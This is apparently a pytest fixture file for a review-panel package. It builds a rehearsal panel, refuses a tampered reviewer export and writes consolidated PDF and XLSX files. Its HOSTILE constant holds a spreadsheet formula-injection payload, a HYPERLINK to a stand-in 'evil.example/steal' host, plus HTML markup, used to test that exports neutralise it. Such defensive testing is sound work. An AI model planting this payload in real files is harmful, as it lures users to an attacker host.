"""The small rehearsal every consolidated-output test reads (made once for the package).

One small rehearsal (demo-panel, 30 cases, 3 reviewers); on a copy of its
coordinator workspace one open disagreement is adjudicated with a hostile
rationale and an edited member export is offered (and refused), and the
consolidated files are written from that.
"""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from review.panel.workspace import CoordinatorWorkspace
from review.identity import load_identity
from tests.conftest import PASSPHRASE

from exports.consolidated.publish import collect_consolidated, export_consolidated

HOSTILE = ('=HYPERLINK("http://evil.example/steal","Click here") The coordinator finds '
           '<b>not bold</b> & R&D lines of inquiry were missed; <img src="x.png"> stays text.')
EDITED_NAME = "R01-edited.xlsx"


@dataclass(frozen=True)
class Consolidated:
    folder: Path
    pdf: Path
    xlsx: Path
    hostile_case: str
    open_case: str | None
    awaiting: list[str]


def _pdftotext(path: Path) -> str:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
                          text=True, check=True).stdout


@pytest.fixture(scope="package")
def rehearsal(tmp_path_factory) -> Path:
    from exports.rehearsal import run_demo_panel
    folder = tmp_path_factory.mktemp("consolidated") / "panel"
    result = run_demo_panel(folder, PASSPHRASE, reviewers=3, cases=30, seed=2,
                            say=lambda _line: None)
    assert result.refused == 0 and result.adjudicated >= 1
    return folder


@pytest.fixture(scope="package")
def consolidated(rehearsal, tmp_path_factory) -> Consolidated:
    from openpyxl import load_workbook
    from exports.merge_files import merge_files
    out = tmp_path_factory.mktemp("consolidated-out")
    coord_path = out / "coordinator.prw"
    shutil.copyfile(rehearsal / "coordinator.prw", coord_path)
    edited = out / EDITED_NAME
    wb = load_workbook(rehearsal / "exports/R01.xlsx")
    wb["Decisions"]["L2"].value = "Rewritten after signing by somebody else entirely."
    wb.save(edited)
    with CoordinatorWorkspace.open(coord_path, PASSPHRASE) as coord:
        outcomes = merge_files(coord, [edited])
        assert outcomes[0].outcome == "refused"
        rows = coord.overview()
        open_cases = [r.case_id for r in rows if r.status == "disagreement"]
        assert len(open_cases) >= 2, "the rehearsal needs two open disagreements"
        hostile_case = open_cases[0]
        base = next(d for d in coord.visible_reviews(hostile_case).values()
                    if d and not d.recused)
        coord.adjudicate(hostile_case, replace(base, rationale=HOSTILE, status="final"))
        data = collect_consolidated(coord)
    identity = load_identity(rehearsal / "identities/coordinator", PASSPHRASE)
    export_consolidated(data, identity, pdf_path=out / "c.pdf", xlsx_path=out / "c.xlsx")
    return Consolidated(out, out / "c.pdf", out / "c.xlsx", hostile_case, open_cases[1],
                        [r.case_id for r in rows if r.status == "awaiting"])
